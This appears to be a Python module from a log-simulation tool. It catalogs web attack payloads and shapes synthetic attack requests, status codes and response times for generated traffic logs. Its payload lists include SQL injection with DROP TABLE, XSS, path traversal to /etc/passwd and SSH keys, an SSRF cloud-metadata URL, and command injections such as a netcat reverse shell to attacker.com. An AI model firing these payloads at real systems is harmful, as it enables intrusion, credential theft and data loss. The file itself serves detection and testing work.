"""Attack payload catalogs and per-category request shaping."""

from __future__ import annotations

import random as _random_mod
from urllib.parse import quote

from logsim.contracts.enums import AttackCategory
from logsim.emulator.traffic import _pick

SQL_INJECTION_PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' UNION SELECT NULL--",
    "1' AND '1'='1",
    "; DROP TABLE users--",
    "' OR 'x'='x",
    "1' ORDER BY 10--",
    "' UNION ALL SELECT NULL,NULL,NULL--",
    "admin' OR '1'='1'/*",
    "1'; EXEC sp_MSForEachTable 'DROP TABLE ?'--",
    "' AND 1=(SELECT COUNT(*) FROM users)--",
)

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "javascript:alert(document.cookie)",
    "<iframe src='javascript:alert(1)'>",
    "<body onload=alert('XSS')>",
    "<<SCRIPT>alert('XSS')//<</SCRIPT>",
    "<IMG SRC='javascript:alert(\"XSS\")'>",
    "<SCRIPT>String.fromCharCode(88,83,83)</SCRIPT>",
    "<IMG SRC=javascript:alert('XSS')>",
)

PATH_TRAVERSAL_PAYLOADS: tuple[str, ...] = (
    "../../etc/passwd",
    "../../../windows/win.ini",
    "....//....//etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "....\\\\....\\\\windows\\\\system32",
    "../../../config/database.yml",
    "../../.ssh/id_rsa",
    "../../../var/log/apache2/access.log",
)

COMMAND_INJECTION_PAYLOADS: tuple[str, ...] = (
    "; ls -la",
    "| cat /etc/passwd",
    "&& whoami",
    "`id`",
    "$(curl malicious.com)",
    "; nc -e /bin/sh attacker.com 4444",
    "| ping -c 10 attacker.com",
    "&& cat /etc/shadow",
)

SSRF_PAYLOADS: tuple[str, ...] = (
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost:8080/admin",
    "http://127.0.0.1:22",
    "file:///etc/passwd",
    "http://[::]:80/",
    "http://0.0.0.0:3306/",
)

# category -> (payloads, URL-encode?, path templates)
_PAYLOAD_PATHS: dict[AttackCategory, tuple[tuple[str, ...], bool, tuple[str, ...]]] = {
    AttackCategory.SQL_INJECTION: (
        SQL_INJECTION_PAYLOADS,
        False,
        (
            "/api/products?id={}",
            "/api/users?username={}",
            "/search?q={}",
            "/login?user={}",
            "/api/orders?status={}",
        ),
    ),
    AttackCategory.XSS: (
        XSS_PAYLOADS,
        True,
        ("/search?q={}", "/comment?text={}", "/profile?name={}", "/api/posts?content={}"),
    ),
    AttackCategory.PATH_TRAVERSAL: (
        PATH_TRAVERSAL_PAYLOADS,
        False,
        ("/download?file={}", "/api/files?path={}", "/read?document={}", "/view?page={}"),
    ),
    AttackCategory.COMMAND_INJECTION: (
        COMMAND_INJECTION_PAYLOADS,
        True,
        ("/ping?host=8.8.8.8{}", "/exec?cmd=ls{}", "/run?command=whoami{}"),
    ),
    AttackCategory.SSRF: (
        SSRF_PAYLOADS,
        True,
        ("/api/fetch?url={}", "/proxy?target={}", "/webhook?callback={}"),
    ),
}

_FIXED_PATHS: dict[AttackCategory, tuple[str, ...]] = {
    AttackCategory.BRUTE_FORCE: (
        "/login",
        "/admin/login",
        "/api/auth/login",
        "/wp-admin",
        "/administrator",
    ),
    AttackCategory.DDOS: ("/", "/api/health", "/api/products", "/search", "/api/users"),
    AttackCategory.BOT_TRAFFIC: (
        "/robots.txt",
        "/sitemap.xml",
        "/.well-known/security.txt",
        "/api/products",
        "/api/posts",
        "/feed",
        "/rss",
    ),
}

_STATUS_POOLS: dict[AttackCategory, tuple[int, ...]] = {
    AttackCategory.SQL_INJECTION: (400, 403, 500),
    AttackCategory.XSS: (400, 403, 500),
    AttackCategory.COMMAND_INJECTION: (400, 403, 500),
    AttackCategory.PATH_TRAVERSAL: (400, 403, 500),
    AttackCategory.SSRF: (400, 403, 502),
    AttackCategory.BRUTE_FORCE: (401, 401, 401, 403),  # mostly unauthorized
    AttackCategory.DDOS: (429, 503, 504),
    AttackCategory.BOT_TRAFFIC: (200, 404, 429),
}
DEFAULT_ATTACK_STATUS = 400

# Categories with catalogs that the selection logic never picks
RESERVED_CATEGORIES: frozenset[AttackCategory] = frozenset(
    {AttackCategory.COMMAND_INJECTION, AttackCategory.SSRF, AttackCategory.XXE}
)
SELECTABLE_CATEGORIES: tuple[AttackCategory, ...] = tuple(
    c for c in AttackCategory if c not in RESERVED_CATEGORIES
)


def _encode_component(value: str) -> str:
    # same safe set as JavaScript's encodeURIComponent
    return quote(value, safe="-_.!~*'()")


def attack_path(rng: _random_mod.Random, category: AttackCategory) -> str:
    """Request path carrying a payload typical for *category*."""
    if category in _PAYLOAD_PATHS:
        payloads, encode, templates = _PAYLOAD_PATHS[category]
        payload = _pick(rng, payloads)
        if encode:
            payload = _encode_component(payload)
        return _pick(rng, templates).format(payload)
    if category in _FIXED_PATHS:
        return _pick(rng, _FIXED_PATHS[category])
    return "/"


def attack_status(rng: _random_mod.Random, category: AttackCategory) -> int:
    pool = _STATUS_POOLS.get(category)
    if pool is None:
        return DEFAULT_ATTACK_STATUS
    return _pick(rng, pool)


def attack_response_time(rng: _random_mod.Random, category: AttackCategory) -> int:
    """Floods stretch responses to 5–15 s; other attacks answer in 0.1–1 s."""
    if category is AttackCategory.DDOS:
        return rng.randint(5000, 15000)
    return rng.randint(100, 1000)
